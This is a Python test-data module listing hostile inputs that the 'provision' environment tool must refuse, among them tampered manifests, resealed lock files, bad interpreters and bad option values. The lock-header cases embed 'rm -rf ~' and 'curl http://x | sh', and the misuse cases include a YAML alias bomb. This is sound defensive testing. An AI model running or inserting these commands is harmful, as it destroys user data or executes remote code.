"""The hostile-value corpus of tests/test_hostile.py (issue 23, items 4, 5 and 8): values that
reach provision through every door a user or an adversary has, each refused with one line.

Classes, each generated from the commands' own Click parameters or from a list of values:
- an option given twice, in every spelling (`--o A --o B`, `--o=A --o=B`, mixed, short forms):
  Click would take the last one silently;
- version numbers that are not ASCII X.Y (v2.13, 02.013, 2.<5000 digits>, ...) for --tf, and
  for every X.Y option (--python, --glibc, --provision-python);
- seconds that are no deadline (1e30, nan, inf, negative) for every timeout;
- a line break in any path a command takes;
- PROVISION_HOME that names no user's home, lies inside an environment directory or a prefix,
  or spans lines, for every command that looks environments up;
- options that do not apply to the command as called (install --require-gpu without a bundle,
  --solver on a pip environment, --installer on a conda one);
- a bundle whose manifest is resealed with a garbage field (glibc, size, sha256, python, ...);
- a lock resealed after an edit (body digest recomputed): a marker false on the target, hashes
  uv never writes, a header line that is not provision's;
- an interpreter for verify that prints what no smoke test prints (invalid UTF-8, NUL, ...).

Each case names a substring its error must contain, so a case passes because of the refusal it
is about, not because the command failed later for another reason.
"""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import badinput
import click
from badinput import ACTIONABLE, USAGE, World

# run reads its options before NAME only (everything after NAME is the command it runs)
BASE = {**badinput.BASE, "run": ("run", "--out", "@envs@", "tiny", "--", "true")}

HOME_FIELDS = ("PROVISION_HOME",)


@dataclass(frozen=True)
class Case:
    id: str
    argv: tuple[str, ...]
    codes: frozenset[int] = ACTIONABLE
    env: tuple[tuple[str, str], ...] = ()
    expect: tuple[str, ...] = ()  # one of these is in the error (case-insensitive)
    prepare: str = ""  # a key of PREPARE: what the case needs on disk before it runs
    absent: tuple[str, ...] = ()  # never in anything printed (a hostile header line)


def _commands() -> dict[str, click.Command]:
    from provision.cli.commands import cli

    return dict(cli.commands)


def _strip(argv: tuple[str, ...], opt: click.Option) -> tuple[str, ...]:
    """argv without opt (and its value), `--` and what follows kept last."""
    out: list[str] = []
    skip = False
    for i, word in enumerate(argv):
        if word == "--":
            out += argv[i:]
            break
        if skip:
            skip = False
            continue
        if word in opt.opts:
            skip = True
            continue
        out.append(word)
    return tuple(out)


def _insert(argv: tuple[str, ...], words: list[str]) -> tuple[str, ...]:
    if argv[0] == "run":
        return (argv[0], *words, *argv[1:])
    if "--" in argv:
        at = argv.index("--")
        return (*argv[:at], *words, *argv[at:])
    return (*argv, *words)


# -- an option given twice ---------------------------------------------------------------------

PLAUSIBLE = {
    "--tf": ("2.13", "2.14"), "--path": ("pip", "conda"), "--python": ("3.11", "3.10"),
    "--name": ("a", "b"), "--out": ("@cwd@/envs", "@envs@"), "--gpu-memory": ("growth", "1024"),
    "--gpus": ("0", "1"), "--solver": ("auto", "builtin"), "--installer": ("uv", "pip"),
    "--prefix": ("@root@/p1", "@root@/p2"), "--timeout": ("60", "120"),
    "--from-bundle": ("@root@/a.tar", "@root@/b.tar"), "--inventory": ("@inventory@", "@afile@"),
    "-o": ("@root@/a.tar", "@root@/b.tar"), "--precision": ("float32", "mixed_float16"),
    "--model": ("mlp", "small_cnn"), "--split": ("1G", "2G"), "--glibc": ("2.17", "2.28"),
}  # fmt: skip


def repeated_cases() -> list[Case]:
    out = []
    for command, base in BASE.items():
        cmd = _commands()[command]
        for param in cmd.params:
            if not isinstance(param, click.Option) or param.multiple or param.count:
                continue
            if param.is_flag and not param.secondary_opts:
                continue
            long = next((o for o in param.opts if o.startswith("--")), param.opts[0])
            a, b = PLAUSIBLE.get(long, ("1", "2"))
            argv = _strip(base, param)
            if param.is_flag:  # --jit and --no-jit
                spellings = {"pair": [param.opts[0], param.secondary_opts[0]]}
            else:
                spellings = {
                    "spaced": [long, a, long, b],
                    "equals": [f"{long}={a}", f"{long}={b}"],
                    "mixed": [long, a, f"{long}={b}"],
                    "same-value": [long, a, long, a],
                }
                for short in (o for o in param.opts if not o.startswith("--")):
                    spellings["short-and-long"] = [short, a, long, b]
                    spellings["short-glued"] = [f"{short}{a}", short, b]
            for label, words in spellings.items():
                out.append(
                    Case(
                        f"twice-{command}-{long.lstrip('-')}-{label}",
                        _insert(argv, words),
                        USAGE,
                        expect=("given twice", "one option"),
                    )
                )
    return out


# -- version numbers -----------------------------------------------------------------------------

RELEASES = {
    "v-prefix": "v2.13", "V-prefix": "V2.13", "leading-zero-major": "02.13",
    "leading-zeros": "02.013", "leading-zero-minor": "2.013", "5000-digits": "2." + "1" * 5000,
    "huge-major": "9" * 40 + ".13", "patch-leading-zero": "2.13.01", "negative": "2.-13",
    "plus": "+2.13", "trailing-space": "2.13 ", "leading-space": " 2.13", "double-dot": "2..13",
    "trailing-dot": "2.13.", "scientific": "2e1", "hex": "0x2.13", "zero-width": "2.13\u200b",
    "nbsp": "2.13\u00a0", "one-part": "2", "wildcard": "2.*", "range": ">=2.13",
    "pep440-local": "2.13+cpu", "rc": "2.13rc1", "dash": "2-13",
}  # fmt: skip
XY = {
    "leading-zero": "03.11", "leading-zero-minor": "3.011", "v-prefix": "v3.11",
    "three-parts": "3.11.4", "one-part": "3", "5000-digits": "3." + "1" * 5000,
    "fullwidth": "\uff13.\uff11\uff11", "trailing-space": "3.11 ",
}  # fmt: skip
XY_OPTIONS = {("render", "--python"), ("create", "--python"), ("bundle", "--provision-python"),
              ("bundle", "--glibc")}  # fmt: skip


def version_cases() -> list[Case]:
    out = []
    for command in ("matrix", "render", "create", "doctor"):
        for label, value in RELEASES.items():
            argv = badinput._replace(BASE[command], "--tf", value)
            out.append(Case(f"release-{command}-{label}", argv, expect=("release number", "--tf")))
    for command, opt in sorted(XY_OPTIONS):
        for label, value in XY.items():
            argv = badinput._replace(BASE[command], opt, value)
            out.append(Case(f"xy-{command}-{opt.lstrip('-')}-{label}", argv, USAGE, expect=(opt,)))
    return out


# -- deadlines ---------------------------------------------------------------------------------

SECONDS = {
    "1e30": "1e30", "1e10": "1e10", "a-month-and-a-second": "2592001", "nan": "nan",
    "NaN": "NaN", "inf": "inf", "-inf": "-inf", "infinity": "Infinity", "1e400": "1e400",
    "negative": "-5", "zero": "0", "words": "ten", "empty": "",
}  # fmt: skip
TIMEOUTS = {
    # verify with a real interpreter: an accepted value would run the smoke test (and fail
    # for want of TensorFlow), so only the refusal names --timeout
    "verify": (("verify", "--python", "@python@"), "--timeout"),
    "bench": (BASE["bench"], "--timeout"),
    "bench-max": (BASE["bench"], "--max-seconds"),
}


def timeout_cases() -> list[Case]:
    out = []
    for label, (base, opt) in TIMEOUTS.items():
        for value_label, value in SECONDS.items():
            if opt == "--max-seconds" and value_label == "zero":
                continue  # 0: no limit, by design
            out.append(
                Case(
                    f"seconds-{label}-{value_label}",
                    badinput._replace(base, opt, value),
                    USAGE,
                    expect=(opt,),
                )
            )
    return out


# -- a line break in a path --------------------------------------------------------------------

BREAKS = {
    "newline": "@root@/a\nb",
    "carriage-return": "@root@/a\rb",
    "trailing-newline": "@root@/new\n",
    "only-newline": "\n",
}


def line_break_cases() -> list[Case]:
    from provision.cli.args import SafePath

    out = []
    for command, base in BASE.items():
        cmd = _commands()[command]
        args = [p for p in cmd.params if isinstance(p, click.Argument)]
        for param in cmd.params:
            if not isinstance(param.type, SafePath):
                continue
            label = param.opts[0] if isinstance(param, click.Option) else param.name or "arg"
            if (command, label) in badinput.NOT_HERE:
                continue
            for value_label, value in BREAKS.items():
                if isinstance(param, click.Argument):
                    argv = badinput._replace_argument(base, 1 + args.index(param), value)
                else:
                    argv = badinput._replace(base, label, value)
                out.append(
                    Case(
                        f"line-break-{command}-{label.lstrip('-')}-{value_label}",
                        argv,
                        expect=("line break", "is empty"),
                    )
                )
    return out


# -- PROVISION_HOME ----------------------------------------------------------------------------

HOMES = {
    "no-such-user": "~nosuchuser-provision/h",
    "no-such-user-alone": "~nosuchuser-provision",
    "no-such-user-slash": "~nosuchuser-provision/",
    "the-environment-directory": "@envs@/tiny",
    "inside-the-environment-directory": "@envs@/tiny/home",
    "deep-inside-the-environment-directory": "@envs@/tiny/a/b/home",
    "inside-a-prefix": "@prefix@/home",
    "the-prefix": "@prefix@",
    "newline": "@root@/h\nome",
}
HOME_COMMANDS: dict[str, tuple[str, ...]] = {
    "lock": BASE["lock"], "install": BASE["install"], "create": BASE["create"],
    "verify": BASE["verify"], "list": ("list",), "show": BASE["show"], "remove": ("remove", "tiny"),
    "run": BASE["run"], "kernel": BASE["kernel"], "export": BASE["export"],
    "fleet": BASE["fleet"], "bundle": BASE["bundle"], "cache-info": ("cache", "info"),
    "cache-prune": ("cache", "prune"), "bench": ("bench", "tiny", "--out", "@envs@"),
}  # fmt: skip


def home_cases() -> list[Case]:
    out = []
    for command, argv in HOME_COMMANDS.items():
        for label, value in HOMES.items():
            out.append(
                Case(
                    f"home-{command}-{label}",
                    argv,
                    env=(("PROVISION_HOME", value),),
                    expect=("PROVISION_HOME",),
                )
            )
        out.append(
            Case(
                f"home-{command}-unreadable",
                argv,
                env=(("PROVISION_HOME", "@unreadable@"),),
                expect=("PROVISION_HOME", "permission"),
                prepare="unreadable",
            )
        )
    return out


# -- options that do not apply ----------------------------------------------------------------

SOLVERS = ("auto", "conda", "mamba", "micromamba", "builtin")


def not_applying_cases() -> list[Case]:
    install = ("install", "tiny", "--out", "@envs@")
    conda = ("install", "tinyconda", "--out", "@envs@")
    out = [
        Case("apply-install-require-gpu", (*install, "--require-gpu"), USAGE, expect=("--require-gpu",)),  # noqa: E501
        Case("apply-install-no-verify", (*install, "--no-verify"), USAGE, expect=("--no-verify",)),
        Case("apply-install-quiet", (*install, "-q"), USAGE, expect=("-q",)),
        Case("apply-install-quiet-long", (*install, "--quiet"), USAGE, expect=("-q",)),
        Case("apply-install-all-three", (*install, "--require-gpu", "--no-verify", "-q"), USAGE,
             expect=("--require-gpu",)),
        Case("apply-install-require-gpu-force", (*install, "--force", "--require-gpu"), USAGE,
             expect=("--require-gpu",)),
        Case("apply-install-require-gpu-json", (*install, "--json", "--require-gpu"), USAGE,
             expect=("--require-gpu",)),
        Case("apply-install-no-verify-prefix", (*install, "--prefix", "@root@/p", "--no-verify"),
             USAGE, expect=("--no-verify",)),
        Case("apply-create-channel-pip",
             ("create", "--tf", "2.13", "--path", "pip", "--channel", "x", "--out", "@cwd@/e"),
             USAGE, expect=("--channel", "channel")),
    ]  # fmt: skip
    for solver in SOLVERS:
        out += [
            Case(f"apply-install-solver-{solver}-pip", (*install, "--solver", solver), USAGE,
                 expect=("--solver",)),
            Case(f"apply-lock-solver-{solver}-pip", (*BASE["lock"], "--solver", solver), USAGE,
                 expect=("--solver",)),
            Case(f"apply-create-solver-{solver}-pip", (*BASE["create"], "--solver", solver),
                 USAGE, expect=("--solver",)),
            Case(f"apply-create-solver-{solver}-system",
                 ("create", "--tf", "2.13", "--path", "system", "--out", "@cwd@/envs", "--solver",
                  solver), USAGE, expect=("--solver",)),
        ]  # fmt: skip
    for installer in ("auto", "uv", "pip"):
        out.append(
            Case(
                f"apply-install-installer-{installer}-conda",
                (*conda, "--installer", installer),
                USAGE,
                expect=("--installer",),
            )
        )
    return out


# -- bundles resealed with a garbage field -------------------------------------------------------

GARBAGE: dict[str, tuple[str, ...]] = {
    "requires.glibc": ("", "x", "2", "2.x", "2.17.1", "\uff12.\uff11\uff17", "2.17\n"),
    "requires.python": ("3", "three", "3.11.4", "03.11"),
    "requires.driver": ("", "new", "525.-1"),
    "python": ("3", "py3.11"),
    "provision_python": ("", "3.x"),
    "lock_sha256": ("", "abc", "Z" * 64),
    "members.0.sha256": ("", "0" * 63, "G" * 64),
}
TYPED: dict[str, tuple[object, ...]] = {
    "requires.glibc": (2.17, None, [], {}, True),
    "members.0.size": (-1, "10", 1.5, None, 2**60, [], {}),
    "requires.machine": (86, None),
    "members": ({}, "all", None),
    "requires": ([], None, "x"),
    "name": (1, None),
}


def manifest_cases() -> list[Case]:
    out = []
    values: list[tuple[str, object]] = [(field, v) for field, vs in GARBAGE.items() for v in vs]
    values += [(field, v) for field, vs in TYPED.items() for v in vs]
    for i, (field, value) in enumerate(values):
        label = field.replace(".", "-")
        out.append(
            Case(
                f"manifest-{label}-{i}",
                ("install", "--from-bundle", f"@root@/bundles/{i}.tar"),
                expect=("manifest",),
                prepare=f"bundle:{i}",
            )
        )
        BUNDLES[i] = (field, value)
    return out


BUNDLES: dict[int, tuple[str, object]] = {}


def valid_manifest() -> dict[str, object]:
    """A manifest as `provision bundle` writes one (without its digest)."""
    from provision.bundlefile import bundle_format as bf

    sha = "0" * 64
    return {
        "format": bf.FORMAT, "name": "tiny", "path": "pip", "tf": "2.13.1", "python": "3.11",
        "platform": "linux-64", "lock": "requirements.lock", "lock_sha256": sha,
        "provision_version": "0.1.0", "provision_python": "3.11",
        "requires": {"machine": "x86_64", "glibc": "2.17", "python": "3.11",
                     "driver": "450.80.02", "driver_full": "520.61.05"},
        "members": [{"name": "env/tiny/requirements.lock", "group": "env", "size": 10,
                     "sha256": sha}],
    }  # fmt: skip


def write_bundle(path: Path, field: str, value: object) -> None:
    """A bundle (a tar whose first member is manifest.json) resealed after setting `field`."""
    from provision.bundlefile import bundle_format as bf

    data = valid_manifest()
    where: object = data
    keys = field.split(".")
    for key in keys[:-1]:
        where = where[int(key)] if isinstance(where, list) else where[key]  # type: ignore[index]
    last = keys[-1]
    if isinstance(where, list):
        where[int(last)] = value
    else:
        where[last] = value  # type: ignore[index]
    text = json.dumps(data, sort_keys=True, separators=(",", ":"))
    data["digest"] = hashlib.sha256(text.encode()).hexdigest()
    blob = (json.dumps(data, sort_keys=True, indent=1) + "\n").encode()
    path.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(path, "w") as tar:
        tar.addfile(bf.tar_info(bf.MANIFEST, len(blob)), io.BytesIO(blob))


# -- locks resealed after an edit ---------------------------------------------------------------

MARKERS = (
    'python_version < "2"', 'python_version >= "4"', 'sys_platform == "win32"',
    'sys_platform == "darwin"', 'platform_machine == "arm64"', 'os_name == "nt"',
    'implementation_name == "pypy"', 'platform_system == "Windows"',
    'python_full_version == "2.7.18"', 'python_version < "3" and sys_platform == "linux"',
)  # fmt: skip
SHA = "sha256:" + "a" * 64
HASHES: dict[str, Callable[[str], str]] = {
    "duplicate": lambda h: f"{h} \\\n    --hash={h}",
    "md5": lambda h: f"{h} \\\n    --hash=md5:{'0' * 32}",
    "sha512": lambda h: f"{h} \\\n    --hash=sha512:{'0' * 128}",
    "uppercase": lambda h: h.upper().replace("SHA256", "sha256"),
    "short": lambda h: h[:-1],
    "empty": lambda h: "sha256:",
    "second-out-of-order": lambda h: f"{h} \\\n    --hash=sha256:{'0' * 64}",
}
HEADER = {
    "regen-rm": ("# Do not edit by hand; regenerate with: provision lock tiny",
                 "# Do not edit by hand; regenerate with: rm -rf ~"),
    "regen-curl": ("# Do not edit by hand; regenerate with: provision lock tiny",
                   "# Do not edit by hand; regenerate with: curl http://x | sh"),
    "install-with-rm": ("# Install with: pip install --require-hashes",
                        "# Install with: rm -rf ~ #"),
    "generated-by": ("# Generated by provision lock (", "# Generated by rm -rf ~ ("),
    "extra-line": ("# Install with:", "# Then run: rm -rf ~\n# Install with:"),
    "regen-missing": ("# Do not edit by hand; regenerate with: provision lock tiny\n", ""),
}  # fmt: skip
LOCK_COMMANDS = {"check": ("lock", "tiny", "--check"), "install": ("install", "tiny")}
EDITS: dict[str, tuple[str, object]] = {}


def lock_cases() -> list[Case]:
    out = []
    edits: list[tuple[str, str, object, tuple[str, ...], tuple[str, ...]]] = []
    for i, marker in enumerate(MARKERS):
        edits.append((f"marker-{i}", "marker", marker, ("marker",), ()))
    for label, _ in HASHES.items():
        edits.append((f"hash-{label}", "hash", label, ("hash",), ()))
    for label, (old, new) in HEADER.items():
        edits.append((f"header-{label}", "header", (old, new), ("header",), ("rm -rf", "| sh")))
    for key, kind, what, expect, absent in edits:
        EDITS[key] = (kind, what)
        for cmd_label, argv in LOCK_COMMANDS.items():
            out.append(
                Case(
                    f"lock-{key}-{cmd_label}",
                    (*argv, "--out", f"@root@/edits/{key}"),
                    expect=expect,
                    prepare=f"edit:{key}",
                    absent=absent,
                )
            )
    return out


def reseal(lock: Path, edit: Callable[[str], str]) -> None:
    """Edit a lock's body and recompute its body digest, as an adversary would."""
    text = lock.read_text()
    tag = "# provision-body-sha256: "
    head, rest = text.split(tag, 1)
    _, body = rest.split("\n", 1)
    body = edit(body)
    lock.write_text(f"{head}{tag}{hashlib.sha256(body.encode()).hexdigest()}\n{body}")


def apply_edit(world: World, key: str) -> None:
    kind, what = EDITS[key]
    dest = world.root / "edits" / key
    if dest.exists():
        shutil.rmtree(dest)
    shutil.copytree(Path(world.tokens["@envs@"]) / "tiny", dest / "tiny")
    lock = dest / "tiny" / "requirements.lock"
    if kind == "marker":
        reseal(lock, lambda b: b.replace(" \\\n", f" ; {what} \\\n", 1))
    elif kind == "hash":
        change = HASHES[str(what)]
        reseal(
            lock,
            lambda b: b.replace(
                b.split("--hash=", 1)[1].split("\n", 1)[0],
                change(b.split("--hash=", 1)[1].split("\n", 1)[0]),
                1,
            ),
        )
    else:
        old, new = what  # type: ignore[misc]
        text = lock.read_text()
        assert old in text, (old, text)
        lock.write_text(text.replace(old, new, 1))


# -- interpreters that print what no smoke test prints -------------------------------------------

INTERPRETERS = {
    "invalid-utf8-stdout": 'printf "\\377\\376 not utf-8\\n"',
    "invalid-utf8-stderr-exit-1": 'printf "\\377\\376 not utf-8\\n" >&2; exit 1',
    "invalid-utf8-in-json": 'printf "{\\"schema\\": \\"\\377\\"}"',
    "nul-bytes": 'printf "a\\000b\\000\\n"',
    "json-list": "echo '[1, 2, 3]'",
    "json-null": "echo null",
    "json-other-schema": 'echo \'{"schema": "something-else"}\'',
    "truncated-json": "echo '{\"schema\": '",
    "nothing-exit-0": "true",
    "nothing-exit-3": "exit 3",
    "killed-by-signal": "kill -SEGV $$",
    "a-long-line": "head -c 300000 /dev/zero | tr '\\0' x",
}


def interpreter_cases() -> list[Case]:
    return [
        Case(
            f"interpreter-{label}",
            ("verify", "--python", f"@root@/interpreters/{label}"),
            frozenset({1}),
            expect=("smoke test", "report", "exit", "signal"),
            prepare="interpreters",
        )
        for label in INTERPRETERS
    ]


def write_interpreters(world: World) -> None:
    folder = world.root / "interpreters"
    if folder.is_dir():
        return
    folder.mkdir()
    for label, body in INTERPRETERS.items():
        script = folder / label
        script.write_text(f"#!/bin/sh\n{body}\n")
        script.chmod(0o755)


# -- a folder of provision's wheels that are no wheels ---------------------------------------------

WHEELHOUSES = {
    "text": "a text file, not a zip\n",
    "empty": "",
    "zip-without-metadata": "zip:",
    "zip-of-something-else": "zip:provision/__init__.py",
    "a-folder": "dir",
    "a-device": "link:/dev/zero",
    "a-dangling-link": "link:/nonexistent/provision.whl",
    "bad-name": "name:provision-x.whl",
    "truncated-zip": "truncated",
}


def wheelhouse_cases() -> list[Case]:
    return [
        Case(
            f"wheelhouse-{label}",
            (*BASE["bundle"], "--provision-wheels", f"@root@/wheelhouses/{label}"),
            expect=("--provision-wheels", "provision-*.whl"),
            prepare=f"wheelhouse:{label}",
        )
        for label in WHEELHOUSES
    ]


def write_wheelhouse(world: World, label: str) -> None:
    import os
    import zipfile

    folder = world.root / "wheelhouses" / label
    if folder.exists():
        return
    folder.mkdir(parents=True)
    how = WHEELHOUSES[label]
    name = "provision-0.1.0-py3-none-any.whl"
    if how.startswith("name:"):
        name, how = how.removeprefix("name:"), "text"
    wheel = folder / name
    if how == "dir":
        wheel.mkdir()
    elif how.startswith("link:"):
        os.symlink(how.removeprefix("link:"), wheel)
    elif how.startswith("zip:") or how == "truncated":
        with zipfile.ZipFile(wheel, "w") as zf:
            member = how.removeprefix("zip:") or "README"
            zf.writestr(member if how != "truncated" else "a/METADATA", "x" * 1000)
        if how == "truncated":
            wheel.write_bytes(wheel.read_bytes()[:200])
    else:
        wheel.write_text(how)


# -- the turn-3 corpus's cases handled badly (issue 40, item 7) ------------------------------

FLEET = (*BASE["fleet"], "--check")  # a dry run, should a refusal be missed
LAUGHS = ['"lol"'] + [f"*l{i - 1}" for i in range(1, 10)]  # nine of nine: 9**9 once expanded
BOMB = "all:\n  hosts:\n    localhost: {ansible_connection: local}\n  vars:\n" + "".join(
    f"    l{i}: &l{i} [{', '.join([item] * 9)}]\n" for i, item in enumerate(LAUGHS)
)
INVENTORIES = {
    "alias-bomb.yml": BOMB,
    "alias-loop.yml": "all:\n  hosts:\n    localhost: {}\n  vars:\n    a: &a [1, *a]\n",
    "host-twice.yml": "all:\n  hosts:\n    localhost: {ansible_connection: local}\n"
    "    localhost: {ansible_connection: local}\n",
    "unparsable.ini": "[gpu\n= = =\n",
}


def misuse_cases() -> list[Case]:
    """Where provision wrote, ran or waited on what a user gave it: each refused in one line,
    with nothing written (the export and bundle cases would write inside an environment)."""
    export = ("export", "tiny", "--out", "@envs@")
    bundle = ("bundle", "tiny", "--out", "@envs@", "-o")
    fleet = {label: badinput._replace(FLEET, "--inventory", f"@root@/files/{label}")
             for label in INVENTORIES}  # fmt: skip
    bench = BASE["bench"]
    return [
        Case("misuse-export-into-its-environment-directory",
             (*export[:2], "@envs@/tiny/exported", *export[2:]), USAGE,
             expect=("inside the environment directory",)),
        Case("misuse-export-into-a-prefix", (*export[:2], "@prefix@/exported", *export[2:]),
             USAGE, expect=("inside the environment prefix",)),
        Case("misuse-export-to-dash", (*export[:2], "-", *export[2:]), USAGE,
             expect=("standard output",)),
        Case("misuse-bundle-into-its-environment-directory", (*bundle, "@envs@/tiny/t.tar"),
             USAGE, expect=("inside the environment directory",)),
        Case("misuse-bundle-into-a-prefix", (*bundle, "@prefix@/t.tar"), USAGE,
             expect=("inside the environment prefix",)),
        Case("misuse-bundle-xdg-cache-home-a-file", BASE["bundle"],
             env=(("XDG_CACHE_HOME", "@afile@"),), expect=("XDG_CACHE_HOME",)),
        Case("misuse-bundle-xdg-cache-home-under-a-file", BASE["bundle"],
             env=(("XDG_CACHE_HOME", "@afile@/cache"),), expect=("XDG_CACHE_HOME",)),
        Case("misuse-install-prefix-root", (*BASE["install"], "--prefix", "/"), USAGE,
             expect=("root of the file system",)),
        Case("misuse-install-prefix-root-dotdot", (*BASE["install"], "--prefix", "/tmp/../"),
             USAGE, expect=("root of the file system",)),
        Case("misuse-kernel-record-names-an-interpreter-outside-its-prefix", BASE["kernel"],
             env=(("PROVISION_HOME", "@root@/files/home"),), expect=("outside its prefix",),
             prepare="files"),
        Case("misuse-fleet-inventory-alias-bomb", fleet["alias-bomb.yml"], USAGE,
             expect=("aliases",), prepare="files"),
        Case("misuse-fleet-inventory-alias-in-its-own-anchor", fleet["alias-loop.yml"], USAGE,
             expect=("never ends",), prepare="files"),
        Case("misuse-fleet-inventory-host-twice", fleet["host-twice.yml"], USAGE,
             expect=("twice",), prepare="files"),
        Case("misuse-fleet-refused-inventory-makes-nothing-in-home", fleet["unparsable.ini"],
             USAGE, env=(("HOME", "@root@/files/userhome"), ("ANSIBLE_HOME", "~/.ansible")),
             expect=("cannot be read by Ansible",), prepare="files"),
        Case("misuse-fleet-forks-far-too-large", (*FLEET, "--forks", "100000"), USAGE,
             expect=("--forks",)),
        Case("misuse-bench-precision-named-twice",
             badinput._replace(bench, "--precision", "float32,float32"), USAGE,
             expect=("twice",)),
        Case("misuse-bench-dataset-empty",
             badinput._replace(bench, "--dataset", "@root@/files/datasets/empty"), USAGE,
             expect=("no .npz",), prepare="files"),
        Case("misuse-bench-dataset-broken-npz",
             badinput._replace(bench, "--dataset", "@root@/files/datasets/broken"), USAGE,
             expect=("not a .npz",), prepare="files"),
        Case("misuse-bench-dataset-npz-without-x",
             badinput._replace(bench, "--dataset", "@root@/files/datasets/no-x"), USAGE,
             expect=("no array x",), prepare="files"),
    ]  # fmt: skip


def write_files(world: World) -> None:
    """The files misuse_cases point at, under @root@/files: inventories, datasets, and a home
    whose registry record of tiny names a program outside its prefix (it would leave a file)."""
    import zipfile

    folder = world.root / "files"
    if folder.is_dir():
        return
    for sub in ("userhome", "datasets/empty", "datasets/broken", "datasets/no-x",
                "home/registry", "prefix/bin"):  # fmt: skip
        (folder / sub).mkdir(parents=True)
    for name, text in INVENTORIES.items():
        (folder / name).write_text(text)
    (folder / "datasets" / "broken" / "a.npz").write_bytes(b"PK\x03\x04 cut short")
    with zipfile.ZipFile(folder / "datasets" / "no-x" / "a.npz", "w") as zf:
        zf.writestr("y.npy", b"\x93NUMPY")
    program = folder / "program"
    program.write_text(f"#!/bin/sh\ntouch {world.root}/PWNED-by-the-record\n")
    program.chmod(0o755)
    record = {
        "name": "tiny", "env_dir": str(Path(world.tokens["@envs@"]) / "tiny"), "path": "pip",
        "tf": "2.13.1", "python": "3.11", "prefix": str(folder / "prefix"),
        "interpreter": str(program), "installer": "uv", "lock_sha256": "0" * 64,
        "built_at": 1.0, "owned": True, "last_verify": None, "bundle": None, "schema": 1,
    }  # fmt: skip
    (folder / "home" / "registry" / "tiny.json").write_text(json.dumps(record))


def cases() -> list[Case]:
    out = (
        repeated_cases() + version_cases() + timeout_cases() + line_break_cases() + home_cases()
        + not_applying_cases() + manifest_cases() + lock_cases() + interpreter_cases()
        + wheelhouse_cases() + misuse_cases()
    )  # fmt: skip
    seen: set[str] = set()
    unique = []
    for case in out:
        assert case.id not in seen, case.id
        seen.add(case.id)
        unique.append(case)
    return unique
